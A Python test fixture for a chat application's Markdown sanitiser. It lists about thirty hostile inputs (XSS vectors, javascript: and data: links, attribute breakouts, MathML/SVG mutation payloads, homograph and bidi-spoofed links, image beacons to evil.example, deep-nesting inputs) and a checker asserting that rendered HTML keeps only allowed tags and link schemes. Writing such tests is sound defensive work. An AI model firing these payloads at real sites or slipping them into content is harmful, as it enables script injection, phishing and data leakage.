"""Markdown that is meant to break a renderer, and what a browser would make of the HTML."""

from html.parser import HTMLParser

from chat.rendering.sanitising import ATTRIBUTES, TAGS

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "a link that is a script": "[click](javascript:alert(1)) [x](JaVaScRiPt&colon;alert(1)) [y](\x01javascript:x)",
    "a link that is a page": "[click](data:text/html;base64,PHNjcmlwdD4=) <data:text/html,x> [z](vbscript:x)",
    "a link to ourselves": "[sign out](/accounts/logout/) [x](//evil.example) [y](#m-1) [z](\\\\evil.example)",
    "a beacon": "![beacon](https://evil.example/x.png?secret) [![x](https://evil.example/y.png)](https://example.org)",
    "a picture that breaks out": '![" onerror="alert(1)](x) ![a](x" onload="alert(1))',
    "svg": "<svg onload=alert(1)><math><mtext></mtext></math></svg>\n\n<svg><a xlink:href='javascript:x'>y</a></svg>",
    "html in code": "```html\n<img src=x onerror=alert(1)>\n```\n\n    <iframe src=//evil.example>",
    "a language that breaks out": '```"><script>alert(1)</script>\nx\n```\n\n~~~ \' onfocus=alert(1) autofocus\nx\n~~~',
    "a title that breaks out": '[a](https://example.org "\\" onmouseover=\\"alert(1)")',
    "styles": "<a href='https://example.org' style='position:fixed'>x</a> <style>*{display:none}</style>",
    "a formula with a script": "$\\href{javascript:alert(1)}{x}$ $\\text{<script>alert(1)</script>}$ $\\style{x:y}{z}$",
    "a formula with entities": "$$\\text{&lt;img src=x onerror=alert(1)&gt;}$$ $\\class{a\" onload=\"b}{x}$",
    "mathml": "<math><annotation-xml encoding='text/html'><script>x</script></annotation-xml><mglyph src=x></math>",
    "mutations": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    "formulas without an end": "$" * 301 + " \\( \\[ $$ " * 50 + "\n\n$$\n\\frac{\n\n\\[\na\n- b",
    "a formula too deep": "$" + "{" * 150 + "}" * 150 + "$ $" + "^" * 150 + "$",
    "homographs": "[bank.example](https://bаnk.example) [paypal.com](https://paypal.com@evil.example/) <https://аррӏе.com>",
    "reading direction": "[\u202egro.elpmaxe\u202c](https://example.org) `\u2066x\u2069` \u202e**fett**\u202c",
    "control characters": "a\x00b\x0bc\x0c\x1b[31m\r\nd\re\x7f\u2028f\u2029g\x85h",
    "entities": "&lt;script&gt; &#60;script&#62; &#x3c;img src=x&#x3e; &NewLine; [x](java&#10;script:alert(1))",
    "deep quotes": ">" * 300 + " x\n\n" + "> " * 60 + "y",
    "deep lists": "\n".join("  " * depth + "- x" for depth in range(20)),
    "deep brackets": "[" * 60 + "](x)" * 10 + "*" * 60 + "_a" * 40 + "![" * 30,
    "a fence without an end": "text\n\n````python\n```\nx = '<script>'\n\n```\n~~~\n",
    "a huge table": "| a | b |\n|---|:-:|\n" + "| <b>1</b> | [x](javascript:1) |\n" * 30,
    "a broken table": "|a|b\n|-|-|-|\n|1\n\n|a|\n|-|\n|\\||`|`|\n|1|2|3|\n- x\n|y|",
    "footnotes": "a[^1] b[^1] c[^x\"><b>]\n\n[^1]: <script>alert(1)</script>\n\n    ```\n    x\n[^2]: [^1]\n\n[^1]: y",
    "definitions": "[a] [b]\n\n[a]: javascript:alert(1)\n[b]: https://example.org '\" onclick=x'\n\n[a][b] [b]",
    "tasks": "- [ ] a\n- [x] <b>b</b>\n  - [X] c\n* [x](javascript:1)\n1. [ ]\n",
    "looks like a block": "a\n#tag\nb\n***fett***\nc\n```x```\nd\n-e\n1.f\n>g\n\n- h\n\n-i\n\n1. j\n2) k\n10. l",
    "mixed line ends": "- a\r\n- b\r\r\n\n> c\r> d\n\r\n```\r\ne\r\n```\r\nf",
    "tabs": "-\ta\n\n\tb\n\n\t\tc\n1.\td\n>\te\n```\n\tf\n    ```\n\t```\n```\ng",
}  # fmt: skip

VOID = {"br", "hr"}


class Elements(HTMLParser):
    """The elements and attributes a browser would see in some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []
        self.tags: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.found += [(tag, name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    elements = Elements(html)
    assert elements.tags <= TAGS
    for tag, name, value in elements.found:
        assert name == "rel" or name in ATTRIBUTES[tag], (tag, name)
        assert not name.startswith("on") and name not in ("src", "srcset", "style")
        assert name != "href" or value.startswith(("https://", "http://", "mailto:", "/sources/", "#note-", "#ref-"))
